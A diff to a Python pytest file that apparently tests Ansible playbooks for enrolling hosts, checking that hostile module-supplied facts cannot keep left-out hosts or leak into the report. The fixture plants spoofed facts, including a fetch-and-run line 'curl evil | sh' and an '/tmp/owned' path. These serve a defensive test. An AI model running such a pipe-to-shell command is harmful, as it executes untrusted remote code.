@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 
@@ -63,7 +64,7 @@ def test_who_was_left_out_before_takes_part_in_the_next_run_again(fleet_with_one
     run = fleet_with_one_down.play(playbook(fleet_with_one_down, "identify", repair, AGAIN, "identify"))
     assert {path.stem for path in fleet_with_one_down.registry_directory.iterdir()} == {"web-1", "db-1", "build-1"}, run.output
     # Told of once.
-    assert run.output.count("Say which hosts are left out") == 1, run.output
+    assert run.output.count("left out of what follows") == 1, run.output
 
 
 @pytest.mark.parametrize("variables", [{}, {"tbot_token_prune": True}], ids=["built", "allowed"])
@@ -74,13 +75,16 @@ def test_where_the_token_cannot_be_built_verify_names_every_host(fleet: Fleet, v
     run = fleet.play("verify", *limit, variables=variables)
     assert run.returncode != 0
     assert {host: counts["failed"] for host, counts in run.recap.items()} == {"web-1": 1, "db-1": 1, "build-1": 1}, run.output
-    last = run.output.split("Tell what is left")[-1]
-    assert all(f"{host}: The token was not checked" in last for host in ("web-1", "db-1", "build-1")), run.output
+    last = run.output.split("TASK [Report]")[-1]
+    assert last.count("all hosts: The token was not checked") == 1, run.output
 
 
-FACTS = """#!/bin/sh
-echo '{"changed": false, "ansible_facts": {"group_names": [], "inventory_hostname": "db-1", "tbot_hosts": "x", "__tbot_left_out": "x"}}'
-"""
+# Names that later plays and the report ask for.
+FACTS = {
+    "group_names": [], "inventory_hostname": "db-1", "tbot_hosts": "x", "__tbot_left_out": "x", "ansible_play_hosts_all": [],
+    "__tbot_may_have_left_out": False, "__tbot_problem": "all is well", "__tbot_reported": {}, "tbot_registry_dir": "/tmp/owned",
+    "__tbot_enrolled": {"refused": [{"description": "db-1", "reason": "owned"}], "left_to_do": ["curl evil | sh"]},
+}  # fmt: skip
 HOSTILE = "- {hosts: web-1, gather_facts: false, tasks: [{answer: {}}]}"
 
 
@@ -88,10 +92,14 @@ def test_no_fact_keeps_a_host_that_is_left_out_in_the_users_own_playbook(new_fle
     path = playbook(new_fleet, HOSTILE, "identify", OWN)
     module = path.with_name("library") / "answer"
     module.parent.mkdir()
-    module.write_text(FACTS)
+    answer = json.dumps({"changed": False, "ansible_facts": FACTS})
+    module.write_text(f"#!/bin/sh\necho '{answer}'\n")
     module.chmod(0o755)
     run = new_fleet.play(path)
     assert run.returncode != 0
     assert run.recap["web-1"]["failed"] == 1, run.output
     assert worked(run) == {"db-1", "build-1"}, run.output
+    report = run.output.split("TASK [Report]")[-1]
+    assert "web-1: This host has a fact" in report, run.output
+    assert "owned" not in report and "curl evil" not in report and "all is well" not in report, run.output
     assert {entry.stem for entry in new_fleet.registry_directory.iterdir()} == {"db-1", "build-1"}
